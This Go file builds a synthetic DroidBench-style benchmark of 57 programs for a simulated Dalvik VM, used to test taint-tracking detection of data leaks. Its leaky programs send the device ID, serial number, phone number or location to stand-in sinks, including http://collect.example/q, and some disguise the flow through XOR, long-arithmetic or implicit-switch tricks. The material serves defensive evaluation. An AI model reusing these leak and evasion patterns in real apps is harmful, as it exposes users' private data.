@@ -1,0 +1,817 @@
+// Package droidbench is the synthetic stand-in for DroidBench 1.1, the
+// benchmark the paper evaluates accuracy on (§5): 57 applications — 41 that
+// leak sensitive data and 16 benign — moving data "through arrays, lists,
+// callbacks, exceptions, intents" and obfuscating flow "through method
+// overriding, reflection, and object inheritance".
+//
+// Each application is a real program for the Dalvik-like VM; its ground
+// truth (leaky or benign) is fixed by construction, exactly as in
+// DroidBench. A 48-app subset mirrors the set used for the paper's
+// Figure 11 accuracy heatmap.
+package droidbench
+
+import (
+	"fmt"
+	"strings"
+
+	"repro/internal/android"
+	"repro/internal/dalvik"
+	"repro/internal/jrt"
+)
+
+// App is one benchmark application.
+type App struct {
+	Name     string
+	Category string
+	// Leaky is the ground truth: the app is constructed to send sensitive
+	// data to a sink.
+	Leaky bool
+	// InSubset marks membership in the 48-app heatmap subset (Figure 11).
+	InSubset bool
+	Prog     *dalvik.Program
+}
+
+type source struct {
+	name   string
+	method string
+}
+
+type sinkSpec struct {
+	name   string
+	method string
+	dest   string
+}
+
+var sources = []source{
+	{"Imei", android.MethodGetDeviceID},
+	{"Serial", android.MethodGetSerial},
+	{"Phone", android.MethodGetLine1},
+}
+
+var sinks = []sinkSpec{
+	{"Sms", android.MethodSendSMS, "5551337"},
+	{"Http", android.MethodSendHTTP, "http://collect.example/q"},
+	{"Log", android.MethodLog, "LEAK"},
+}
+
+// Suite returns all 57 applications in a stable order.
+func Suite() []App {
+	var apps []App
+	add := func(a App, err error) {
+		if err != nil {
+			panic(fmt.Sprintf("droidbench: %s: %v", a.Name, err))
+		}
+		apps = append(apps, a)
+	}
+
+	// --- Leaky, 48-subset (36 apps) ---
+
+	// 1. Direct string concatenation, every source × sink (9).
+	for _, src := range sources {
+		for _, snk := range sinks {
+			add(directLeak(src, snk, true))
+		}
+	}
+	// 2. Flow through an application helper method (3).
+	for i, src := range sources {
+		add(viaHelper(src, sinks[i%len(sinks)]))
+	}
+	// 3. Flow through a static field (3).
+	for i, src := range sources {
+		add(viaStaticField(src, sinks[(i+1)%len(sinks)]))
+	}
+	// 4. Flow through an instance field of a holder object (3).
+	for i, src := range sources {
+		add(viaObjectField(src, sinks[(i+2)%len(sinks)]))
+	}
+	// 5. Flow through an Intent-like extras object (2).
+	add(viaIntent(sources[0], sinks[1]))
+	add(viaIntent(sources[2], sinks[0]))
+	// 6. Flow through a callback dispatched on a runtime value (2).
+	add(viaCallback(sources[0], sinks[2]))
+	add(viaCallback(sources[1], sinks[0]))
+	// 7. Flow through char arrays and arraycopy (4).
+	for i, src := range sources {
+		add(viaCharArray(src, sinks[i%len(sinks)]))
+	}
+	add(viaCharArray(source{"Imei2", android.MethodGetDeviceID}, sinks[2]))
+	// 8. XOR obfuscation per character (2).
+	add(xorObfuscation(sources[0], sinks[1], true))
+	add(xorObfuscation(sources[1], sinks[2], true))
+	// 9. Char-by-char through the bounds-checked insert (6) — the flows
+	// that need NT >= 2.
+	for _, src := range sources {
+		add(viaInsertChar(src, sinks[0]))
+		add(viaInsertChar(src, sinks[1]))
+	}
+	// 10. GPS location through numeric formatting (1) — needs NI >= 10.
+	add(locationLeak(sinks[1]))
+	// 11. Implicit flow via switch obfuscation (1) — the paper's
+	// ImplicitFlow1, detected only with the widest windows.
+	add(implicitSwitch(sources[0], sinks[0]))
+
+	// --- Benign, 48-subset (12 apps) ---
+	for i := 0; i < 4; i++ {
+		add(benignNoSource(i))
+	}
+	for i, src := range sources {
+		add(benignUnusedSource(src, sinks[i%len(sinks)]))
+	}
+	add(benignUnusedSource(source{"Location", android.MethodGetLocation}, sinks[2]))
+	for i := 0; i < 4; i++ {
+		add(benignComputeOnly(i))
+	}
+
+	// --- Leaky, outside the heatmap subset (5 apps) ---
+	add(xorObfuscation(sources[2], sinks[0], false))
+	add(doubleSourceLeak())
+	add(longObfuscationLeak())
+	add(viaReturnChain())
+	add(viaException())
+
+	// --- Benign, outside the heatmap subset (4 apps) ---
+	add(benignEcho(0))
+	add(benignEcho(1))
+	add(benignStaticShuffle())
+	add(benignArithmetic())
+
+	return apps
+}
+
+// Subset returns the 48 applications of the Figure 11 heatmap.
+func Subset() []App {
+	var out []App
+	for _, a := range Suite() {
+		if a.InSubset {
+			out = append(out, a)
+		}
+	}
+	return out
+}
+
+// RenderInventory prints the full suite as a markdown table: name,
+// category, ground truth, heatmap-subset membership, and static size.
+func RenderInventory() string {
+	var b strings.Builder
+	b.WriteString("| # | App | Category | Ground truth | In Fig. 11 subset | Bytecodes |\n")
+	b.WriteString("|---|---|---|---|---|---|\n")
+	for i, a := range Suite() {
+		truth := "benign"
+		if a.Leaky {
+			truth = "LEAKY"
+		}
+		subset := ""
+		if a.InSubset {
+			subset = "yes"
+		}
+		fmt.Fprintf(&b, "| %d | %s | %s | %s | %s | %d |\n",
+			i+1, a.Name, a.Category, truth, subset, a.Prog.Stats().Instructions)
+	}
+	leaky, benign := Counts(Suite())
+	fmt.Fprintf(&b, "\n%d applications: %d leaky, %d benign; %d in the heatmap subset.\n",
+		len(Suite()), leaky, benign, len(Subset()))
+	return b.String()
+}
+
+// Counts tallies the ground-truth composition.
+func Counts(apps []App) (leaky, benign int) {
+	for _, a := range apps {
+		if a.Leaky {
+			leaky++
+		} else {
+			benign++
+		}
+	}
+	return leaky, benign
+}
+
+func build(name string, b *dalvik.Builder, category string, leaky, subset bool) (App, error) {
+	prog, err := b.Build(android.KnownExterns())
+	return App{Name: name, Category: category, Leaky: leaky, InSubset: subset, Prog: prog}, err
+}
+
+// directLeak: msg = "id=" + secret, sent directly (the paper's §2 shape).
+func directLeak(src source, snk sinkSpec, subset bool) (App, error) {
+	name := "Direct" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(0)
+	m.ConstString(1, "id=")
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodAppend, 0, 2)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodToString, 0)
+	m.MoveResultObject(3)
+	m.ConstString(4, snk.dest)
+	m.InvokeStatic(snk.method, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "direct", true, subset)
+}
+
+// viaHelper: the secret reference flows through an app method that does
+// the message assembly.
+func viaHelper(src source, snk sinkSpec) (App, error) {
+	name := "Helper" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	h := b.Method("Main.build", 8, 1) // arg: secret ref in v7
+	h.InvokeStatic(jrt.MethodBuilderNew)
+	h.MoveResultObject(0)
+	h.ConstString(1, "payload:")
+	h.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	h.MoveResultObject(0)
+	h.InvokeVirtual(jrt.MethodAppend, 0, 7)
+	h.MoveResultObject(0)
+	h.InvokeVirtual(jrt.MethodToString, 0)
+	h.MoveResultObject(2)
+	h.ReturnObject(2)
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(0)
+	m.InvokeStatic("Main.build", 0)
+	m.MoveResultObject(1)
+	m.ConstString(2, snk.dest)
+	m.InvokeStatic(snk.method, 2, 1)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "helper-method", true, true)
+}
+
+// viaStaticField: the secret reference is parked in a static field and
+// fetched back before exfiltration.
+func viaStaticField(src source, snk sinkSpec) (App, error) {
+	name := "Static" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	b.Statics("stash")
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(0)
+	m.SputObject(0, "stash")
+	// Unrelated work in between.
+	m.Const16(1, 100)
+	m.AddIntLit8(1, 1, 23)
+	m.SgetObject(2, "stash")
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(3)
+	m.InvokeVirtual(jrt.MethodAppend, 3, 2)
+	m.MoveResultObject(3)
+	m.InvokeVirtual(jrt.MethodToString, 3)
+	m.MoveResultObject(4)
+	m.ConstString(5, snk.dest)
+	m.InvokeStatic(snk.method, 5, 4)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "static-field", true, true)
+}
+
+// viaObjectField: the secret reference is stored in a holder object's
+// instance field.
+func viaObjectField(src source, snk sinkSpec) (App, error) {
+	name := "Field" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	b.Class("Holder", "data", "count")
+	m := b.Method("Main.main", 8, 0)
+	m.NewInstance(0, "Holder")
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(1)
+	m.IputObject(1, 0, "Holder.data")
+	m.Const4(2, 3)
+	m.Iput(2, 0, "Holder.count")
+	m.IgetObject(3, 0, "Holder.data")
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(4)
+	m.InvokeVirtual(jrt.MethodAppend, 4, 3)
+	m.MoveResultObject(4)
+	m.InvokeVirtual(jrt.MethodToString, 4)
+	m.MoveResultObject(5)
+	m.ConstString(6, snk.dest)
+	m.InvokeStatic(snk.method, 6, 5)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "instance-field", true, true)
+}
+
+// viaIntent: the secret travels inside an Intent-like extras object handed
+// to a "receiver" method, DroidBench's inter-component pattern.
+func viaIntent(src source, snk sinkSpec) (App, error) {
+	name := "Intent" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	b.Class("Intent", "action", "extra")
+	r := b.Method("Main.onReceive", 8, 1) // arg: intent in v7
+	r.IgetObject(0, 7, "Intent.extra")
+	r.InvokeStatic(jrt.MethodBuilderNew)
+	r.MoveResultObject(1)
+	r.InvokeVirtual(jrt.MethodAppend, 1, 0)
+	r.MoveResultObject(1)
+	r.InvokeVirtual(jrt.MethodToString, 1)
+	r.MoveResultObject(2)
+	r.ConstString(3, snk.dest)
+	r.InvokeStatic(snk.method, 3, 2)
+	r.ReturnVoid()
+	m := b.Method("Main.main", 8, 0)
+	m.NewInstance(0, "Intent")
+	m.ConstString(1, "android.intent.SEND")
+	m.IputObject(1, 0, "Intent.action")
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(2)
+	m.IputObject(2, 0, "Intent.extra")
+	m.InvokeStatic("Main.onReceive", 0)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "intent", true, true)
+}
+
+// viaCallback: the sink-reaching method is selected at run time from a
+// dispatch value — DroidBench's callback/override pattern.
+func viaCallback(src source, snk sinkSpec) (App, error) {
+	name := "Callback" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	leak := b.Method("Main.onEvent", 8, 1) // v7 = secret
+	leak.InvokeStatic(jrt.MethodBuilderNew)
+	leak.MoveResultObject(0)
+	leak.InvokeVirtual(jrt.MethodAppend, 0, 7)
+	leak.MoveResultObject(0)
+	leak.InvokeVirtual(jrt.MethodToString, 0)
+	leak.MoveResultObject(1)
+	leak.ConstString(2, snk.dest)
+	leak.InvokeStatic(snk.method, 2, 1)
+	leak.ReturnVoid()
+	noop := b.Method("Main.onIdle", 4, 1)
+	noop.ReturnVoid()
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(0)
+	m.Const4(1, 1) // "event fired"
+	m.IfEqz(1, "idle")
+	m.InvokeStatic("Main.onEvent", 0)
+	m.ReturnVoid()
+	m.Label("idle")
+	m.InvokeStatic("Main.onIdle", 0)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "callback", true, true)
+}
+
+// viaCharArray: chars are pulled into a char array, copied to a second
+// array, and rebuilt into a string.
+func viaCharArray(src source, snk sinkSpec) (App, error) {
+	name := "Array" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 10, 0)
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodStringLength, 0)
+	m.MoveResult(1)
+	m.NewCharArray(2, 1) // a
+	m.NewCharArray(3, 1) // b
+	m.Const4(4, 0)
+	m.Label("fill")
+	m.If(dalvik.OpIfGe, 4, 1, "copy")
+	m.InvokeVirtual(jrt.MethodCharAt, 0, 4)
+	m.MoveResult(5)
+	m.AputChar(5, 2, 4)
+	m.AddIntLit8(4, 4, 1)
+	m.Goto("fill")
+	m.Label("copy")
+	m.InvokeStatic(jrt.MethodArraycopyChar, 2, 3, 1)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(6)
+	m.Const4(4, 0)
+	m.Label("rebuild")
+	m.If(dalvik.OpIfGe, 4, 1, "send")
+	m.AgetChar(5, 3, 4)
+	m.InvokeVirtual(jrt.MethodAppendChar, 6, 5)
+	m.MoveResultObject(6)
+	m.AddIntLit8(4, 4, 1)
+	m.Goto("rebuild")
+	m.Label("send")
+	m.InvokeVirtual(jrt.MethodToString, 6)
+	m.MoveResultObject(7)
+	m.ConstString(8, snk.dest)
+	m.InvokeStatic(snk.method, 8, 7)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "char-array", true, true)
+}
+
+// xorObfuscation: each character is XOR-scrambled and unscrambled before
+// being appended — arithmetic links with template distance 5.
+func xorObfuscation(src source, snk sinkSpec, subset bool) (App, error) {
+	name := "Xor" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 10, 0)
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodStringLength, 0)
+	m.MoveResult(1)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(2)
+	m.Const4(3, 0)
+	m.Label("loop")
+	m.If(dalvik.OpIfGe, 3, 1, "send")
+	m.InvokeVirtual(jrt.MethodCharAt, 0, 3)
+	m.MoveResult(4)
+	m.XorIntLit8(4, 4, 0x55)
+	m.XorIntLit8(4, 4, 0x55)
+	m.InvokeVirtual(jrt.MethodAppendChar, 2, 4)
+	m.MoveResultObject(2)
+	m.AddIntLit8(3, 3, 1)
+	m.Goto("loop")
+	m.Label("send")
+	m.InvokeVirtual(jrt.MethodToString, 2)
+	m.MoveResultObject(5)
+	m.ConstString(6, snk.dest)
+	m.InvokeStatic(snk.method, 6, 5)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "xor-obfuscation", true, subset)
+}
+
+// viaInsertChar: char-by-char through the bounds-checked insert, whose
+// window spends its first propagation on the bounds spill (needs NT >= 2).
+func viaInsertChar(src source, snk sinkSpec) (App, error) {
+	name := "Insert" + src.name + snk.name
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 10, 0)
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodStringLength, 0)
+	m.MoveResult(1)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(2)
+	m.Const4(3, 0)
+	m.Label("loop")
+	m.If(dalvik.OpIfGe, 3, 1, "send")
+	m.InvokeVirtual(jrt.MethodCharAt, 0, 3)
+	m.MoveResult(4)
+	m.InvokeVirtual(jrt.MethodInsertChar, 2, 4)
+	m.MoveResultObject(2)
+	m.AddIntLit8(3, 3, 1)
+	m.Goto("loop")
+	m.Label("send")
+	m.InvokeVirtual(jrt.MethodToString, 2)
+	m.MoveResultObject(5)
+	m.ConstString(6, snk.dest)
+	m.InvokeStatic(snk.method, 6, 5)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "insert-char", true, true)
+}
+
+// locationLeak: the GPS latitude is formatted through the numeric
+// intrinsic — the paper's "NI had to be at least 10" case.
+func locationLeak(snk sinkSpec) (App, error) {
+	const name = "LocationHttp"
+	b := dalvik.NewProgram(name)
+	b.Class(android.LocationClass, "lat", "lon")
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(android.MethodGetLocation)
+	m.MoveResultObject(0)
+	m.Iget(1, 0, "Location.lat")
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(2)
+	m.ConstString(3, "lat=")
+	m.InvokeVirtual(jrt.MethodAppend, 2, 3)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodAppendInt, 2, 1)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodToString, 2)
+	m.MoveResultObject(3)
+	m.ConstString(4, snk.dest)
+	m.InvokeStatic(snk.method, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "location", true, true)
+}
+
+// implicitSwitch is the paper's ImplicitFlow1 (§4.2): the secret is never
+// copied; each character selects a switch case that appends a constant.
+// The distance from the tainted switch load to the first carrying store is
+// long, so only the widest windows catch it.
+func implicitSwitch(src source, snk sinkSpec) (App, error) {
+	const name = "ImplicitSwitch"
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 16, 0)
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodStringLength, 0)
+	m.MoveResult(1)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(2)
+	// Pre-materialized constant characters 'a'..'j' in v6..v15 so the
+	// case bodies perform no constant stores of their own.
+	for d := 0; d < 10; d++ {
+		m.Const16(6+d, int32('a'+d))
+	}
+	m.Const4(3, 0)
+	m.Label("loop")
+	m.If(dalvik.OpIfGe, 3, 1, "send")
+	m.InvokeVirtual(jrt.MethodCharAt, 0, 3)
+	m.MoveResult(4)
+	var cases []dalvik.SwitchCase
+	for d := 0; d < 10; d++ {
+		cases = append(cases, dalvik.SwitchCase{
+			Value:  int32('0' + d),
+			Target: fmt.Sprintf("case%d", d),
+		})
+	}
+	m.PackedSwitch(4, cases...)
+	m.Goto("next") // non-digit: skipped
+	for d := 0; d < 10; d++ {
+		m.Label(fmt.Sprintf("case%d", d))
+		m.InvokeVirtual(jrt.MethodInsertChar, 2, 6+d)
+		m.MoveResultObject(2)
+		m.Goto("next")
+	}
+	m.Label("next")
+	m.AddIntLit8(3, 3, 1)
+	m.Goto("loop")
+	m.Label("send")
+	m.InvokeVirtual(jrt.MethodToString, 2)
+	m.MoveResultObject(5)
+	m.ConstString(6, snk.dest)
+	m.InvokeStatic(snk.method, 6, 5)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "implicit-switch", true, true)
+}
+
+// --- Benign applications ---
+
+// benignNoSource never touches sensitive data.
+func benignNoSource(i int) (App, error) {
+	name := fmt.Sprintf("BenignPlain%d", i)
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(0)
+	m.ConstString(1, "status=ok&seq=")
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.Const16(2, int32(100+i))
+	m.InvokeVirtual(jrt.MethodAppendInt, 0, 2)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodToString, 0)
+	m.MoveResultObject(3)
+	m.ConstString(4, sinks[i%len(sinks)].dest)
+	m.InvokeStatic(sinks[i%len(sinks)].method, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "benign-plain", false, true)
+}
+
+// benignUnusedSource fetches sensitive data but sends a message that was
+// fully assembled *before* the fetch.
+func benignUnusedSource(src source, snk sinkSpec) (App, error) {
+	name := "BenignFetch" + src.name
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(0)
+	m.ConstString(1, "heartbeat")
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodToString, 0)
+	m.MoveResultObject(2)
+	// Sensitive fetch after the message exists; the reference is parked
+	// and never dereferenced.
+	m.InvokeStatic(src.method)
+	m.MoveResultObject(3)
+	m.ConstString(4, snk.dest)
+	m.InvokeStatic(snk.method, 4, 2)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "benign-unused-source", false, true)
+}
+
+// benignComputeOnly reads sensitive characters and computes a local
+// checksum, but exfiltrates nothing derived from it: the sink payload is a
+// constant built before the sensitive reads.
+func benignComputeOnly(i int) (App, error) {
+	name := fmt.Sprintf("BenignCompute%d", i)
+	b := dalvik.NewProgram(name)
+	b.Statics("check")
+	m := b.Method("Main.main", 10, 0)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(0)
+	m.ConstString(1, "ping")
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodToString, 0)
+	m.MoveResultObject(2) // payload finished before any sensitive load
+	m.InvokeStatic(sources[i%len(sources)].method)
+	m.MoveResultObject(3)
+	m.InvokeVirtual(jrt.MethodStringLength, 3)
+	m.MoveResult(4)
+	m.Const4(5, 0) // i
+	m.Const4(6, 0) // checksum
+	m.Label("sum")
+	m.If(dalvik.OpIfGe, 5, 4, "send")
+	m.InvokeVirtual(jrt.MethodCharAt, 3, 5)
+	m.MoveResult(7)
+	m.Binop(dalvik.OpAddInt, 6, 6, 7)
+	m.AddIntLit8(5, 5, 1)
+	m.Goto("sum")
+	m.Label("send")
+	m.Sput(6, "check") // checksum stays on the device
+	m.ConstString(8, sinks[i%len(sinks)].dest)
+	m.InvokeStatic(sinks[i%len(sinks)].method, 8, 2)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "benign-compute", false, true)
+}
+
+// --- Extra apps outside the 48 subset ---
+
+// doubleSourceLeak concatenates two secrets into one message.
+func doubleSourceLeak() (App, error) {
+	const name = "DoubleSource"
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(0)
+	m.InvokeStatic(android.MethodGetDeviceID)
+	m.MoveResultObject(1)
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.ConstString(1, "/")
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.InvokeStatic(android.MethodGetLine1)
+	m.MoveResultObject(1)
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodToString, 0)
+	m.MoveResultObject(2)
+	m.ConstString(3, sinks[0].dest)
+	m.InvokeStatic(sinks[0].method, 3, 2)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "direct", true, false)
+}
+
+// longObfuscationLeak shuttles each character through 64-bit arithmetic
+// (int-to-long, shl-long, shr-long, long-to-int) before rebuilding the
+// string — the Table 1 "9–12 distance" bytecodes on the data path.
+func longObfuscationLeak() (App, error) {
+	const name = "LongObfuscation"
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 16, 0)
+	m.InvokeStatic(android.MethodGetSerial)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodStringLength, 0)
+	m.MoveResult(1)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(2)
+	m.Const4(3, 0)
+	m.Const4(5, 8) // shift amount
+	m.Label("loop")
+	m.If(dalvik.OpIfGe, 3, 1, "send")
+	m.InvokeVirtual(jrt.MethodCharAt, 0, 3)
+	m.MoveResult(4)
+	m.IntToLong(6, 4)   // widen the char
+	m.ShlLong(8, 6, 5)  // << 8
+	m.ShrLong(10, 8, 5) // >> 8 (identity, through the long path)
+	m.LongToInt(4, 10)
+	m.InvokeVirtual(jrt.MethodAppendChar, 2, 4)
+	m.MoveResultObject(2)
+	m.AddIntLit8(3, 3, 1)
+	m.Goto("loop")
+	m.Label("send")
+	m.InvokeVirtual(jrt.MethodToString, 2)
+	m.MoveResultObject(12)
+	m.ConstString(13, sinks[1].dest)
+	m.InvokeStatic(sinks[1].method, 13, 12)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "long-obfuscation", true, false)
+}
+
+// viaReturnChain passes the secret through a chain of returning methods.
+func viaReturnChain() (App, error) {
+	const name = "ReturnChain"
+	b := dalvik.NewProgram(name)
+	c := b.Method("Main.level2", 4, 1)
+	c.ReturnObject(3)
+	d := b.Method("Main.level1", 4, 1)
+	d.InvokeStatic("Main.level2", 3)
+	d.MoveResultObject(0)
+	d.ReturnObject(0)
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(android.MethodGetDeviceID)
+	m.MoveResultObject(0)
+	m.InvokeStatic("Main.level1", 0)
+	m.MoveResultObject(1)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodAppend, 2, 1)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodToString, 2)
+	m.MoveResultObject(3)
+	m.ConstString(4, sinks[2].dest)
+	m.InvokeStatic(sinks[2].method, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "return-chain", true, false)
+}
+
+// viaException routes the secret through an exception object's message
+// field: the "throw" transfers control to a handler that extracts and
+// exfiltrates it — DroidBench's Exceptions category.
+func viaException() (App, error) {
+	const name = "ExceptionFlow"
+	b := dalvik.NewProgram(name)
+	b.Class("AppException", "message")
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(android.MethodGetLine1)
+	m.MoveResultObject(0)
+	m.NewInstance(1, "AppException")
+	m.IputObject(0, 1, "AppException.message")
+	m.Const4(2, 1)
+	m.IfNez(2, "catch") // the throw: always taken
+	m.ReturnVoid()      // unreachable fall-through
+	m.Label("catch")
+	m.IgetObject(3, 1, "AppException.message")
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(4)
+	m.ConstString(5, "err:")
+	m.InvokeVirtual(jrt.MethodAppend, 4, 5)
+	m.MoveResultObject(4)
+	m.InvokeVirtual(jrt.MethodAppend, 4, 3)
+	m.MoveResultObject(4)
+	m.InvokeVirtual(jrt.MethodToString, 4)
+	m.MoveResultObject(5)
+	m.ConstString(6, sinks[1].dest)
+	m.InvokeStatic(sinks[1].method, 6, 5)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "exception", true, false)
+}
+
+// benignEcho sends back data derived from non-sensitive framework calls.
+func benignEcho(i int) (App, error) {
+	name := fmt.Sprintf("BenignEcho%d", i)
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(android.MethodGetModel)
+	m.MoveResultObject(0)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(1)
+	m.ConstString(2, "model=")
+	m.InvokeVirtual(jrt.MethodAppend, 1, 2)
+	m.MoveResultObject(1)
+	m.InvokeVirtual(jrt.MethodAppend, 1, 0)
+	m.MoveResultObject(1)
+	m.InvokeVirtual(jrt.MethodToString, 1)
+	m.MoveResultObject(3)
+	m.ConstString(4, sinks[i%len(sinks)].dest)
+	m.InvokeStatic(sinks[i%len(sinks)].method, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "benign-echo", false, false)
+}
+
+// benignStaticShuffle moves benign strings through static fields.
+func benignStaticShuffle() (App, error) {
+	const name = "BenignShuffle"
+	b := dalvik.NewProgram(name)
+	b.Statics("a", "b")
+	m := b.Method("Main.main", 8, 0)
+	m.ConstString(0, "alpha")
+	m.SputObject(0, "a")
+	m.SgetObject(1, "a")
+	m.SputObject(1, "b")
+	m.SgetObject(2, "b")
+	m.ConstString(3, sinks[0].dest)
+	m.InvokeStatic(sinks[0].method, 3, 2)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "benign-shuffle", false, false)
+}
+
+// benignArithmetic exercises the division helpers on benign data.
+func benignArithmetic() (App, error) {
+	const name = "BenignArith"
+	b := dalvik.NewProgram(name)
+	m := b.Method("Main.main", 8, 0)
+	m.Const(0, 86400)
+	m.DivIntLit8(1, 0, 60)
+	m.RemIntLit8(2, 0, 7)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(3)
+	m.InvokeVirtual(jrt.MethodAppendInt, 3, 1)
+	m.MoveResultObject(3)
+	m.InvokeVirtual(jrt.MethodAppendInt, 3, 2)
+	m.MoveResultObject(3)
+	m.InvokeVirtual(jrt.MethodToString, 3)
+	m.MoveResultObject(4)
+	m.ConstString(5, sinks[2].dest)
+	m.InvokeStatic(sinks[2].method, 5, 4)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return build(name, b, "benign-arith", false, false)
+}
